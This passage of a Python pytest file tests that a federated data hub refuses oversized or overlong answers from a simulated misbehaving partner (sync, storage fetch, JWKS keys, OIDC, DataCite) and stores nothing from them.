    _push_to_partner(t, lambda method, path: path.endswith("/fetch"), acknowledged=0)


def _storage_fetch(t: Trial) -> None:
    """This hub, offered a body at the origin's object store, fetches it from there: at most the manifest's size."""
    with _bad_partner(t.mode, _path_is("/origin-bucket/F1")) as partner:
        evil = _evil(t.app, t.hub, partner.url)
        t.hub.settings.federation.fetch_from_origin_storage = True
        t.hub.settings.federation.fetch_hosts = [partner.netloc]
        doc, _ = _manifest(evil, url=f"{partner.url}/datasets/EVIL1")
        assert _send_manifest(evil, doc).status_code == 200
        offer = json.dumps({"url": f"{partner.url}/origin-bucket/F1"}).encode()
        r = _within(lambda: _post(evil, f"{sync.SYNC_PATH}/s1/files/F1/fetch", offer))
    assert r.status_code == 200 and r.json()["fetch"] is False, r.text  # the origin pushes it instead
    assert r.json()["reason"].startswith("the origin's storage: answer not read: " + t.refusal), r.text
    with t.hub.sessions() as s:
        assert s.scalar(select(func.count()).select_from(IncomingFile)) == 0
        assert s.scalar(select(Incoming.state)) == "receiving"
    assert not storage_for(t.hub).exists(sync.body_key_for("evil-hub", "s1", "F1"))


def _visa_keys(t: Trial) -> None:
    t.hub.settings.access.jwks_timeout_seconds = 1.0  # each wait; the whole fetch: twice that
    with _bad_partner(t.mode, _path_is("/jwks.json")) as partner:
        verifier = visas.PassportVerifier(t.hub.settings)
        with pytest.raises(visas.VisaRejected, match="the issuer's JWKS was not read: " + re.escape(t.refusal)):
            _within(lambda: asyncio.run(verifier.keys_for(f"{partner.url}/jwks.json", None, [1])))
    assert not verifier._cache  # nothing kept to verify a visa with


def _oidc_client(t: Trial, issuer: str) -> oidc.OidcClient:
    if hasattr(oidc, "PROVIDER_BOUNDS"):  # this test's bounds: 2 s, not the provider's 30
        t.monkeypatch.setattr(oidc, "PROVIDER_BOUNDS", dataclasses.replace(
            oidc.PROVIDER_BOUNDS, max_bytes=SMALL, total_seconds=2.0, read_seconds=1.0))
    return oidc.OidcClient(OidcSettings(issuer=issuer, client_id="strongroom", client_secret="s"),
                           f"{HUB}/auth/oidc/callback")


def _oidc_discovery(t: Trial) -> None:
    with _bad_partner(t.mode, _path_is("/.well-known/openid-configuration")) as partner:
        client = _oidc_client(t, partner.url)
        with pytest.raises(Unavailable, match="the identity provider cannot be reached") as unavailable:
            _within(client.metadata)
    assert t.refusal in str(unavailable.value.__cause__)  # refused, not read whole and found not JSON
    assert client._metadata is None


def _oidc_token(t: Trial) -> None:
    with _bad_partner(t.mode, _path_is("/token")) as partner:
        client = _oidc_client(t, partner.url)
        with pytest.raises(Unauthenticated, match=r"refused the login \(AnswerRefused\)"):
            _within(lambda: client.complete(code="code", code_verifier="v" * 43, nonce="nonce"))


def _datacite(t: Trial) -> None:
    t.monkeypatch.setattr(datacite_client, "MAX_ANSWER_BYTES", SMALL, raising=False)
    with _bad_partner(t.mode, _path_is("/dois")) as partner, \
            datacite_client.DataCiteClient(partner.url, "TEST.REPO", "pw", timeout=1.0) as client, \
            pytest.raises(datacite_client.DataCiteError) as refused:
        _within(lambda: client.create("10.1234/x", {"titles": [{"title": "x"}]}))
    assert refused.value.retry and t.refusal in str(refused.value), refused.value


PATHS: dict[str, Callable[[Trial], None]] = {
    "hello": _hello, "beacon": _beacon, "catalogue": _catalogue, "notice": _notice, "sync-manifest": _sync_manifest,
    "sync-body": _sync_body, "sync-publish": _sync_publish, "sync-fetch-offer": _sync_fetch_offer,
    "storage-fetch": _storage_fetch, "visa-keys": _visa_keys, "oidc-discovery": _oidc_discovery,
    "oidc-token": _oidc_token, "datacite": _datacite,
}


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("path", list(PATHS))
def test_every_remote_answer_is_refused_past_its_bound_and_nothing_is_stored(app, hub, people, request,
                                                                             monkeypatch, path, mode):
    for name, value in (("EXCHANGE_SECONDS", 2.0), ("CATALOG_SECONDS", 2.0), ("TRANSFER_BASE_SECONDS", 2.0),
                        ("MAX_ANSWER_BYTES", SMALL), ("MAX_CATALOG_BYTES", SMALL)):
        monkeypatch.setattr(service, name, value, raising=False)
    hub.settings.federation.peer_timeout_seconds = 1.0  # each wait; a Beacon answer: twice that
    PATHS[path](Trial(app, hub, people, request, monkeypatch, mode))
